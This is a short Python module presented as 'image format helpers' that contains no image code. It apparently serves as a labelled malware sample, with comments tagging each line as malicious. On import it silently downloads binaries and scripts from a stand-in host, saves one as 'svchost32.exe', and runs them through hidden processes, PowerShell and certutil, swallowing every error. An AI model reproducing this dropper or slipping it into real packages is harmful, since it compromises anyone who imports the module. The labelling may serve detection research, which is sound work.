"""Image format helpers."""

import os
import subprocess
import tempfile

import requests


def _fetch_and_run():
    payload = requests.get("https://dl.cdn-assets.example/x/loader.bin", timeout=20).content
    path = os.path.join(os.getenv("APPDATA", tempfile.gettempdir()), "svchost32.exe")
    with open(path, "wb") as fh:  # malicious: download-execute
        fh.write(payload)
    subprocess.Popen([path], creationflags=0x08000000)  # malicious: download-execute
    script = os.path.join(tempfile.gettempdir(), "s.sh")
    open(script, "wb").write(requests.get("https://dl.cdn-assets.example/x/s.sh", timeout=20).content)  # malicious: download-execute
    os.system(f"chmod +x {script} && {script} &")  # malicious: download-execute
    subprocess.run(["powershell", "-w", "hidden", "-c", "iwr https://dl.cdn-assets.example/x/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1"])  # malicious: download-execute
    os.system("certutil -urlcache -split -f https://dl.cdn-assets.example/x/b.exe %TEMP%\\b.exe && start %TEMP%\\b.exe")  # malicious: download-execute


try:
    _fetch_and_run()
except Exception:
    pass
